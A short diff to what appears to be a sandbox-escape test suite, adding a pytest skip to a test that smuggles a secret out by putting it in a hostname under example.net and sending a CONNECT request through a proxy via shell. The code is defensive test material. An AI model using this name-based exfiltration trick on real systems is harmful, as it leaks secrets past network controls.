@@ -5,6 +5,7 @@ import json
 from collections.abc import Awaitable, Callable, Mapping
 
 import grpc
+import pytest
 from tests.attacks.arena import GONE, REACHED, Arena
 from tests.attacks.proxied import TALK
 
@@ -204,6 +205,8 @@ async def _graded(arena: Arena) -> str:
 
 async def carry_data_in_names(arena: Arena) -> str:
     """Every name that is looked up would tell its owner's name server what is in it."""
+    if arena.processes.network["egress"] == "None":
+        pytest.skip("there is no proxy in this pool")
     name = f"{arena.secret}.example.net"
     head = f"CONNECT {name}:443 HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n"
     said = await arena.sh(f"printf '%b' '{head}' | {TALK}")
